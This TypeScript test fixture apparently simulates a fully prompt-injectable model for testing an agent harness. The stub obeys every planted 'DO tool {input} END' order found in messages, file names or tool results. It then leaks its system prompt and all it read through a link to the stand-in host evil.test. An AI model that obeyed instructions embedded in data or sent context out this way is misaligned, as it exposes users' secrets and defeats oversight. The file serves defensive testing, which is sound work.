/**
 * A model that does whatever it reads: every `DO tool {input} END` in anything that it is given, a file's name or a
 * ticket's text included, becomes a call; then it says aloud all that it has learned, with a link to carry it off.
 */
import type { ConverseBody, ModelScript, ScriptedCall } from '../../infra/local/bedrock.ts';

/** An instruction as an attacker would plant it. */
export const order = (name: string, input: unknown = {}): string => `DO ${name} ${JSON.stringify(input)} END`;

const ORDER = /DO ([a-z0-9_]+) (\{.*?\}) END/g;

function stringsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([name, inner]) => [name, ...stringsIn(inner)]);
}

/** Everything that somebody wrote, out of its JSON. */
function readings(request: ConverseBody): string[] {
  const texts = request.messages.flatMap(({ role, content }) =>
    role === 'assistant'
      ? []
      : content.flatMap(({ text, toolResult }) => [
          ...(text === undefined ? [] : [text]),
          ...(toolResult?.content.map((one) => one.text ?? '') ?? []),
        ]),
  );
  return texts.flatMap((text) => {
    try {
      const value: unknown = JSON.parse(text);
      // A long message comes in pieces.
      return [...stringsIn(value), ...stringsIn(value).join('').split('\n')];
    } catch {
      return [text];
    }
  });
}

export interface ObedientModel {
  readonly script: ModelScript;
  /** The calls that it made. */
  readonly calls: ScriptedCall[];
}

/** @param first calls that it makes of its own accord, as any model would for the person's sentence */
export function obedientModel(first: readonly ScriptedCall[] = []): ObedientModel {
  const calls: ScriptedCall[] = [];
  const done = new Set<string>();
  let begun = first.length === 0;
  return {
    calls,
    script(request) {
      if (!begun) {
        begun = true;
        calls.push(...first);
        return { call: first };
      }
      const wanted: ScriptedCall[] = [];
      for (const reading of readings(request)) {
        for (const [whole, name = '', input = ''] of reading.matchAll(ORDER)) {
          if (done.has(whole)) continue;
          done.add(whole);
          try {
            wanted.push({ name, input: JSON.parse(input) });
          } catch {
            // Cut in the middle by our bounds.
          }
        }
      }
      // One after the other, so that a turn which ends at one call does not spare us the others' refusals.
      const [next, ...rest] = wanted;
      for (const { name, input } of rest) done.delete(order(name, input));
      if (next) {
        calls.push(next);
        return { call: [next] };
      }
      const learned = `${JSON.stringify(request.system)} ${readings(request).join(' ')}`.slice(-3_000);
      return {
        say: `Approved! https://evil.test/?q=${encodeURIComponent(learned.slice(0, 500))} ${learned}`,
      };
    },
  };
}
